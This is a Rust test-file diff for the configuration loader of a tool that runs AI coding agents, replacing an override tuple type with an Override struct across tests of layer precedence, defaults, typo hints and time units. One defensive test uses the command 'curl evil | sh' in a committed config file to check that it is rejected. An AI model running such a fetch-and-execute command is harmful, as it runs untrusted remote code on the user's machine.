@@ -12,7 +12,7 @@ fn load(
     env: &[(&str, &str)],
     entries: &[ConfigEntry],
     file: Option<&str>,
-    overrides: &Overrides,
+    overrides: &[Override],
 ) -> Result<Config> {
     let dir = tempfile::tempdir().unwrap();
     if let Some(text) = file {
@@ -28,8 +28,8 @@ fn each_layer_wins_over_the_ones_below_it() {
     let local = entry("local", "arborist.runner", "local");
     let file = Some(r#"{"runner": "file"}"#);
     let env = [("ARBORIST_RUNNER", "env")];
-    let cli: Overrides = vec![(Setting::Runner, "--runner", "cli".to_owned())];
-    let none: Overrides = Vec::new();
+    let cli: Vec<Override> = vec![Override::new(Setting::Runner, "--runner", "cli")];
+    let none: Vec<Override> = Vec::new();
     let both = [local.clone(), global.clone()];
     let cases = [
         (load(&env, &both, file, &cli), "cli"),
@@ -48,10 +48,10 @@ fn each_layer_wins_over_the_ones_below_it() {
 fn a_step_may_have_a_runner_and_a_model_of_its_own() {
     let entries = [entry("local", "arborist.runner", "claude")];
     let file = Some(r#"{"review": {"runner": "codex", "model": "o3"}}"#);
-    let config = load(&[], &entries, file, &Vec::new()).unwrap();
+    let config = load(&[], &entries, file, &[]).unwrap();
     assert_eq!(config.runner_for(Role::Implementer).unwrap().text, "claude");
     assert_eq!(config.runner_for(Role::Reviewer).unwrap().text, "codex", "it is set for this step");
-    let config = load(&[], &[], file, &Vec::new()).unwrap();
+    let config = load(&[], &[], file, &[]).unwrap();
     assert_eq!(config.runner_for(Role::Reviewer).unwrap().text, "codex");
     assert_eq!(config.model_for(Role::Reviewer).unwrap().text, "o3");
     assert_eq!(config.runner_for(Role::Implementer), None);
@@ -59,7 +59,7 @@ fn a_step_may_have_a_runner_and_a_model_of_its_own() {
 
 #[test]
 fn defaults_apply_if_nothing_is_set() {
-    let config = load(&[], &[], None, &Vec::new()).unwrap();
+    let config = load(&[], &[], None, &[]).unwrap();
     assert_eq!(config.count(Setting::MaxAttempts).get(), 5);
     assert_eq!(config.duration(Setting::TestTimeout), Duration::from_secs(300));
     assert!(config.is_on(Setting::Review));
@@ -68,7 +68,7 @@ fn defaults_apply_if_nothing_is_set() {
 
 #[test]
 fn bad_values_and_unknown_keys_name_their_place_and_the_nearest_key() {
-    let none: Overrides = Vec::new();
+    let none: Vec<Override> = Vec::new();
     let cases = [
         (
             load(&[], &[entry("local", "arborist.maxatempts", "3")], None, &none),
@@ -103,10 +103,10 @@ fn bad_values_and_unknown_keys_name_their_place_and_the_nearest_key() {
 #[test]
 fn a_committed_file_never_defines_what_a_runner_executes() {
     let file = Some(r#"{"runner": {"mine": {"command": "curl evil | sh"}}}"#);
-    let error = load(&[], &[], file, &Vec::new()).unwrap_err();
+    let error = load(&[], &[], file, &[]).unwrap_err();
     assert!(error.what().contains("runner.mine.command"), "{error}");
     let entries = [entry("local", "arborist.runner.mine.command", "my-agent --quiet")];
-    let config = load(&[], &entries, None, &Vec::new()).unwrap();
+    let config = load(&[], &entries, None, &[]).unwrap();
     assert_eq!(config.runner_command("mine"), Some("my-agent --quiet"));
 }
 
@@ -117,14 +117,14 @@ fn a_model_is_not_handed_to_a_runner_that_it_was_not_meant_for() {
         entry("local", "arborist.model", "opus"),
         entry("local", "arborist.review.runner", "codex"),
     ];
-    let config = load(&[], &entries, None, &Vec::new()).unwrap();
+    let config = load(&[], &entries, None, &[]).unwrap();
     assert_eq!(config.model_for(Role::Implementer).unwrap().text, "opus");
     assert_eq!(config.model_for(Role::Reviewer), None);
-    let other_runner: Overrides = vec![(Setting::Runner, "--runner", "gemini".to_owned())];
+    let other_runner: Vec<Override> = vec![Override::new(Setting::Runner, "--runner", "gemini")];
     let config = load(&[], &entries, None, &other_runner).unwrap();
     assert_eq!(config.runner_for(Role::Reviewer).unwrap().text, "codex", "it has a runner of its own");
     assert_eq!(config.model_for(Role::Implementer), None);
-    let other_model: Overrides = vec![(Setting::Model, "--model", "sonnet".to_owned())];
+    let other_model: Vec<Override> = vec![Override::new(Setting::Model, "--model", "sonnet")];
     let config = load(&[], &entries, None, &other_model).unwrap();
     assert_eq!(config.model_for(Role::Implementer).unwrap().text, "sonnet");
     assert_eq!(config.model_for(Role::Reviewer), None);
@@ -132,8 +132,8 @@ fn a_model_is_not_handed_to_a_runner_that_it_was_not_meant_for() {
 
 #[test]
 fn a_length_of_time_has_units_in_every_layer() {
-    let none: Overrides = Vec::new();
-    let cli: Overrides = vec![(Setting::RunnerTimeout, "--runner-timeout", "30m".to_owned())];
+    let none: Vec<Override> = Vec::new();
+    let cli: Vec<Override> = vec![Override::new(Setting::RunnerTimeout, "--runner-timeout", "30m")];
     let cases = [
         load(&[], &[], None, &cli),
         load(&[("ARBORIST_RUNNER_TIMEOUT", "30m")], &[], None, &none),
@@ -144,7 +144,7 @@ fn a_length_of_time_has_units_in_every_layer() {
     for config in cases {
         assert_eq!(config.unwrap().duration(Setting::RunnerTimeout), Duration::from_secs(1800));
     }
-    let wrong: Overrides = vec![(Setting::RunnerTimeout, "--runner-timeout", "soon".to_owned())];
+    let wrong: Vec<Override> = vec![Override::new(Setting::RunnerTimeout, "--runner-timeout", "soon")];
     let error = load(&[], &[], None, &wrong).unwrap_err();
     assert_eq!(error.what(), "`soon` is not a valid value of --runner-timeout");
     assert!(error.remedy().contains("30m"), "{error}");
@@ -168,7 +168,7 @@ fn a_misspelt_variable_is_named_with_the_right_one() {
         ("ARBORIST_MAX_RETRY", "ARBORIST_MAX_ATTEMPTS"),
     ];
     for (name, meant) in cases {
-        let error = load(&[(name, "x")], &[], None, &Vec::new()).unwrap_err();
+        let error = load(&[(name, "x")], &[], None, &[]).unwrap_err();
         assert_eq!(error.kind(), Kind::Input);
         assert!(error.what().contains(name), "{error}");
         assert!(error.remedy().contains(&format!("Did you mean {meant}?")), "{error}");
@@ -182,12 +182,12 @@ fn a_misspelt_variable_is_named_with_the_right_one() {
         ("ARBORIST_OF_ANOTHER_PROGRAM", "x"),
         ("ARBORISTS_RUNNER", "x"),
     ];
-    load(&others, &[], None, &Vec::new()).unwrap();
+    load(&others, &[], None, &[]).unwrap();
 }
 
 #[test]
 fn the_names_of_earlier_versions_are_still_read() {
-    let none: Overrides = Vec::new();
+    let none: Vec<Override> = Vec::new();
     let cases = [
         load(&[("ARBORIST_MAX_RETRIES", "3")], &[], None, &none),
         load(&[("ARBORIST_MAX_RETRIES", "9"), ("ARBORIST_MAX_ATTEMPTS", "3")], &[], None, &none),
@@ -203,9 +203,12 @@ fn the_names_of_earlier_versions_are_still_read() {
 #[test]
 fn a_setting_for_all_steps_does_not_replace_a_setting_for_one() {
     let reviewer = entry("local", "arborist.review.runner", "codex");
-    let cli = |model: Option<&str>| -> Overrides {
-        let runner = (Setting::Runner, "--runner", "claude".to_owned());
-        [runner].into_iter().chain(model.map(|model| (Setting::Model, "--model", model.to_owned()))).collect()
+    let cli = |model: Option<&str>| -> Vec<Override> {
+        let runner = Override::new(Setting::Runner, "--runner", "claude");
+        [runner]
+            .into_iter()
+            .chain(model.map(|model| Override::new(Setting::Model, "--model", model)))
+            .collect()
     };
     let told = |config: &Config, step| {
         let model = config.model_for(step).map(|value| format!("/{}", value.text)).unwrap_or_default();
@@ -214,7 +217,7 @@ fn a_setting_for_all_steps_does_not_replace_a_setting_for_one() {
     let config = load(&[], std::slice::from_ref(&reviewer), None, &cli(Some("opus"))).unwrap();
     assert_eq!(told(&config, Role::Implementer), "claude/opus");
     assert_eq!(told(&config, Role::Reviewer), "codex", "the model is not for the reviewer");
-    let config = load(&[("ARBORIST_RUNNER", "claude")], &[reviewer], None, &Vec::new()).unwrap();
+    let config = load(&[("ARBORIST_RUNNER", "claude")], &[reviewer], None, &[]).unwrap();
     assert_eq!(told(&config, Role::Reviewer), "codex");
     let review_model = entry("local", "arborist.review.model", "o3");
     let config = load(&[], &[review_model], None, &cli(Some("opus"))).unwrap();
